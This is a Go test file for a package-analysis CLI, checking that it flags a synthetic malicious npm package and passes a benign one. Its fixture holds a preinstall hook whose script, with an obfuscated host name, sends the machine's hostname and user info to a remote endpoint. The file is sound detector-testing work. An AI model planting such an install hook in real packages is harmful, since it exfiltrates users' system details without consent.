package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func writePkg(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, body := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// Synthetic, inert inputs: nothing here is executed.
func TestAnalyzeCommand(t *testing.T) {
	bad := writePkg(t, map[string]string{
		"package.json": `{"name":"synthetic-beacon","version":"1.0.0","scripts":{"preinstall":"node index.js"}}`,
		"index.js":     `const os=require("os"),https=require("https");https.request({hostname:"x."+"m.pipedream"+".net",method:"POST"}).end(JSON.stringify({h:os.hostname(),u:os.userInfo()}))`,
	})
	good := writePkg(t, map[string]string{
		"package.json": `{"name":"synthetic-cli","version":"1.0.0","bin":{"x":"cli.js"}}`,
		"cli.js":       `const {execFileSync}=require("child_process");console.log(execFileSync("git",["status"]).toString())`,
	})
	out, _, code := run(t, nil, "analyze", bad)
	if code != ExitPolicy || !strings.Contains(out, "MALICIOUS") || !strings.Contains(out, "x.m.pipedream.net") || !strings.Contains(out, "index.js:1 (runs at preinstall)") {
		t.Errorf("malicious package: exit %d\n%s", code, out)
	}
	out, _, code = run(t, nil, "analyze", good)
	if code != ExitOK || !strings.Contains(out, "synthetic-cli@1.0.0: OK") {
		t.Errorf("benign CLI: exit %d\n%s", code, out)
	}
	out, _, code = run(t, nil, "analyze", "--format", "json", "--fail-on", "never", bad)
	var doc struct {
		SchemaVersion int    `json:"schemaVersion"`
		Verdict       string `json:"verdict"`
		Chain         []struct{ Rule string }
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || code != ExitOK || doc.SchemaVersion != 1 || doc.Verdict != "malicious" || len(doc.Chain) < 2 {
		t.Errorf("json: exit %d err %v doc %+v", code, err, doc)
	}
	_, errOut, code := run(t, nil, "analyze", filepath.Join(good, "missing"))
	if code != ExitOperation || !strings.Contains(errOut, "missing") {
		t.Errorf("missing path: exit %d %s", code, errOut)
	}
	_, _, code = run(t, nil, "analyze", "--fail-on", "sometimes", good)
	if code != ExitUsage {
		t.Errorf("bad --fail-on: exit %d", code)
	}
}
